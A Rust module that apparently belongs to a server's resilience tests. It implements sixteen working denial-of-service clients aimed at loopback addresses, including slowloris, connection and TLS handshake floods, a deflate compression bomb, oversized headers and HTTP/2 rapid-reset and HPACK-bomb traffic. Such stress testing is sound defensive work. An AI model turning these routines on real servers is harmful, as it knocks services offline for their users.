//! What hostile clients do. Each runs on a thread of its own until it is told to stop, with plain sockets that do not
//! block, from addresses of this machine that are not the neighbour's. What the server refuses is tried again.

use std::io::{self, ErrorKind, Read, Write};
use std::net::{Ipv4Addr, SocketAddr, TcpStream};
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::thread;
use std::time::Duration;

use flate2::{Compress, Compression, FlushCompress};
use socket2::{Domain, Socket, Type};

use super::http2::{self, Script};

/// One kind.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Attack {
    /// Many requests of which a byte comes now and then.
    Slowloris,
    /// Clients that ask and never read.
    SlowRead,
    /// Pings, whose pongs are not read.
    PingFlood,
    /// Connections from one address that say nothing and go.
    ConnectionFlood,
    /// Whole opening handshakes, one after the other.
    HandshakeFlood,
    /// Messages that are small until they are inflated.
    CompressionBomb,
    /// Request heads beyond the limit.
    OversizedHeaders,
    /// TLS handshakes from one address, of which the server has to do its part.
    TlsHandshakes,
    /// The same from two hundred addresses.
    TlsHandshakesOfMany,
    /// A thousand clients that begin a TLS handshake and then say nothing.
    TlsSilence,
    /// HTTP/2: requests that are taken back at once.
    RapidReset,
    /// HTTP/2: heads without end.
    ContinuationFlood,
    /// HTTP/2: heads that are small until they are decoded.
    HpackBomb,
    /// HTTP/2: settings to be acknowledged.
    SettingsFlood,
    /// HTTP/2: pings, whose answers are not read.
    Http2PingFlood,
    /// HTTP/2: answers that are taken byte by byte.
    Dribble,
}

/// Where it goes to.
#[derive(Clone)]
pub(crate) struct Aim {
    pub(crate) plain: SocketAddr,
    pub(crate) tls: SocketAddr,
    /// The first message of a TLS client.
    pub(crate) hello: Vec<u8>,
}

impl Attack {
    pub(crate) const ALL: [Self; 16] = [
        Self::Slowloris,
        Self::SlowRead,
        Self::PingFlood,
        Self::ConnectionFlood,
        Self::HandshakeFlood,
        Self::CompressionBomb,
        Self::OversizedHeaders,
        Self::TlsHandshakes,
        Self::TlsHandshakesOfMany,
        Self::TlsSilence,
        Self::RapidReset,
        Self::ContinuationFlood,
        Self::HpackBomb,
        Self::SettingsFlood,
        Self::Http2PingFlood,
        Self::Dribble,
    ];

    pub(crate) const fn name(self) -> &'static str {
        match self {
            Self::Slowloris => "slowloris",
            Self::SlowRead => "slow read",
            Self::PingFlood => "ping flood",
            Self::ConnectionFlood => "connection flood",
            Self::HandshakeFlood => "handshake flood",
            Self::CompressionBomb => "compression bomb",
            Self::OversizedHeaders => "oversized headers",
            Self::TlsHandshakes => "tls handshakes",
            Self::TlsHandshakesOfMany => "tls handshakes of many",
            Self::TlsSilence => "tls silence",
            Self::RapidReset => "h2 rapid reset",
            Self::ContinuationFlood => "h2 continuation flood",
            Self::HpackBomb => "h2 hpack bomb",
            Self::SettingsFlood => "h2 settings flood",
            Self::Http2PingFlood => "h2 ping flood",
            Self::Dribble => "h2 dribble",
        }
    }

    /// Whether neighbours over TLS are looked at as well.
    pub(crate) const fn is_tls(self) -> bool {
        matches!(self, Self::TlsHandshakes | Self::TlsHandshakesOfMany | Self::TlsSilence)
    }

    /// Runs it, and counts what it did in `done`.
    pub(crate) fn run(self, aim: &Aim, stop: &AtomicBool, done: &AtomicU64) {
        let to = aim.plain;
        let step = |did: bool| {
            if did {
                done.fetch_add(1, Ordering::Relaxed);
            }
            !stop.load(Ordering::Relaxed)
        };
        match self {
            Self::Slowloris => half_requests(to, b"GET /echo HTTP/1.1\r\nHost: a\r\nX-Slow: ", b"y", step),
            Self::SlowRead => crowd(to, 100, &after_handshake(frame(0x82, &[7; 60_000]).repeat(8)), step),
            Self::PingFlood => crowd(to, 16, &after_handshake(frame(0x89, b"are you there?").repeat(500)), step),
            Self::ConnectionFlood => one_by_one(to, 1, &[], step),
            Self::HandshakeFlood => one_by_one(to, 1, &handshake(""), step),
            Self::CompressionBomb => one_by_one(to, 1, &[handshake(OFFER), frame(0xc2, &bomb())].concat(), step),
            Self::OversizedHeaders => one_by_one(to, 1, &oversized(), step),
            Self::TlsHandshakes => one_by_one(aim.tls, 1, &aim.hello, step),
            Self::TlsHandshakesOfMany => one_by_one(aim.tls, 200, &aim.hello, step),
            Self::TlsSilence => half_requests(aim.tls, &aim.hello, b"", step),
            Self::RapidReset => crowd(to, 16, &http2::rapid_reset(), step),
            Self::ContinuationFlood => crowd(to, 16, &http2::continuation_flood(), step),
            Self::HpackBomb => crowd(to, 16, &http2::hpack_bomb(), step),
            Self::SettingsFlood => crowd(to, 16, &http2::settings_flood(), step),
            Self::Http2PingFlood => crowd(to, 16, &http2::ping_flood(), step),
            Self::Dribble => crowd(to, 16, &http2::dribble(), step),
        }
    }
}

/// Bytes that an attacker writes in one go.
const WRITE_BYTES_MAX: usize = 16 * 1024;
const OFFER: &str = "Sec-WebSocket-Extensions: permessage-deflate\r\n";
/// Inflated bytes of a bomb, far over the limit of a message.
const BOMB_BYTES: usize = 64 << 20;

fn handshake(fields: &str) -> Vec<u8> {
    let head =
        "GET /echo HTTP/1.1\r\nHost: a\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\n";
    format!("{head}Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n{fields}\r\n").into_bytes()
}

/// A masked frame, whose mask is zero.
fn frame(first: u8, payload: &[u8]) -> Vec<u8> {
    let mut frame = vec![first];
    match u16::try_from(payload.len()) {
        Ok(length @ 0..126) => frame.push(0x80 | u8::try_from(length).unwrap_or(0)),
        Ok(length) => frame.extend([&[0xfe][..], &length.to_be_bytes()].concat()),
        Err(_) => frame.extend([&[0xff][..], &(payload.len() as u64).to_be_bytes()].concat()),
    }
    frame.extend([0; 4]);
    frame.extend(payload);
    frame
}

fn bomb() -> Vec<u8> {
    let (mut compress, mut out) = (Compress::new(Compression::best(), false), Vec::with_capacity(1 << 20));
    compress.compress_vec(&vec![0; BOMB_BYTES], &mut out, FlushCompress::Sync).expect("there is room");
    out.truncate(out.len() - 4);
    out
}

/// A WebSocket on which this is said without end.
fn after_handshake(again: Vec<u8>) -> Script {
    Script { first: handshake(""), again }
}

fn oversized() -> Vec<u8> {
    let fields = format!("X-Filler: {}\r\n", "x".repeat(1000)).repeat(64);
    format!("GET /echo HTTP/1.1\r\nHost: a\r\n{fields}\r\n").into_bytes()
}

/// A connection from `127.0.0.2` and further on, which takes little that it does not read.
fn connect(to: SocketAddr, number: usize) -> io::Result<TcpStream> {
    let source = Ipv4Addr::new(127, 0, 0, 2 + u8::try_from(number % 200).unwrap_or(0));
    let socket = Socket::new(Domain::IPV4, Type::STREAM, None)?;
    socket.set_recv_buffer_size(4096)?;
    socket.set_reuse_address(true)?;
    socket.bind(&SocketAddr::from((source, 0)).into())?;
    // Who is not answered does not wait for it either.
    socket.set_nonblocking(true)?;
    match socket.connect(&to.into()) {
        Err(error) if error.raw_os_error() != Some(libc::EINPROGRESS) => Err(error),
        _ => Ok(socket.into()),
    }
}

/// Whether an error is no end.
fn is_full(error: &io::Error) -> bool {
    error.kind() == ErrorKind::WouldBlock
}

/// A thousand beginnings of ten addresses, each longer by `more` every second or so.
fn half_requests(to: SocketAddr, beginning: &[u8], more: &[u8], step: impl Fn(bool) -> bool) {
    const COUNT: usize = 1000;
    let mut half: Vec<Option<TcpStream>> = (0..COUNT).map(|_| None).collect();
    while step(false) {
        for (number, slot) in half.iter_mut().enumerate() {
            let Some(stream) = slot else {
                *slot = connect(to, number % 10).ok();
                if let Some(stream) = slot {
                    let _ = stream.write_all(beginning);
                }
                if !step(slot.is_some()) {
                    return;
                }
                continue;
            };
            let gone = stream.write(more).is_err_and(|error| !is_full(&error));
            // An answer to less than a whole is a refusal; one that is taken may go on.
            let over = |read| read == 0 || !more.is_empty();
            if gone || stream.read(&mut [0; 4096]).map_or_else(|error| !is_full(&error), over) {
                *slot = None;
            }
            if number % 10 == 0 {
                thread::sleep(Duration::from_millis(10));
                if !step(false) {
                    return;
                }
            }
        }
    }
}

/// So many connections that send the same over and over, of which the handshake is the first, and read nothing.
fn crowd(to: SocketAddr, count: usize, script: &Script, step: impl Fn(bool) -> bool) {
    let (bytes, again) = ([&script.first[..], &script.again].concat(), script.first.len());
    let mut all: Vec<Option<(TcpStream, usize)>> = (0..count).map(|_| None).collect();
    while step(false) {
        let mut idle = true;
        for (number, slot) in all.iter_mut().enumerate() {
            let Some((stream, at)) = slot else {
                *slot = connect(to, number).ok().map(|stream| (stream, 0));
                continue;
            };
            // The answer to the handshake is waited for, or it would be an error.
            if *at == again && stream.peek(&mut [0]).is_err() {
                continue;
            }
            // Few at a time: the neighbour has this core as well, and would wait for the end of a long write.
            let end = if *at < again { again } else { bytes.len().min(*at + WRITE_BYTES_MAX) };
            match stream.write(&bytes[*at..end]) {
                Ok(taken) => {
                    idle = false;
                    *at += taken;
                    if *at == bytes.len() {
                        // Behind the handshake, whose answer is not looked for again.
                        *at = again;
                    }
                }
                Err(error) if is_full(&error) => {}
                Err(_) => *slot = None,
            }
            if !step(!idle) {
                return;
            }
        }
        if idle {
            thread::sleep(Duration::from_millis(1));
        }
    }
}

/// Connects from so many addresses, says something, takes what comes for a moment, and does it again; a few at a time.
fn one_by_one(to: SocketAddr, addresses: usize, bytes: &[u8], step: impl Fn(bool) -> bool) {
    const AT_ONCE: usize = 32;
    let mut all: Vec<Option<(TcpStream, usize, u32)>> = (0..AT_ONCE).map(|_| None).collect();
    let mut numbers = (0..addresses).cycle();
    while step(false) {
        for slot in &mut all {
            let Some((stream, at, rounds)) = slot else {
                *slot = connect(to, numbers.next().unwrap_or(0)).ok().map(|stream| (stream, 0, 0));
                if !step(slot.is_some()) {
                    return;
                }
                continue;
            };
            *rounds += 1;
            let wrote = stream.write(&bytes[*at..]);
            *at += wrote.as_ref().map_or(0, |taken| *taken);
            let broken = wrote.is_err_and(|error| !is_full(&error));
            let ended = match stream.read(&mut [0; 4096]) {
                Ok(0) => true,
                Ok(_) => false,
                Err(error) => !is_full(&error),
            };
            if broken || ended || *rounds > 20 || bytes.is_empty() {
                *slot = None;
            }
        }
    }
}
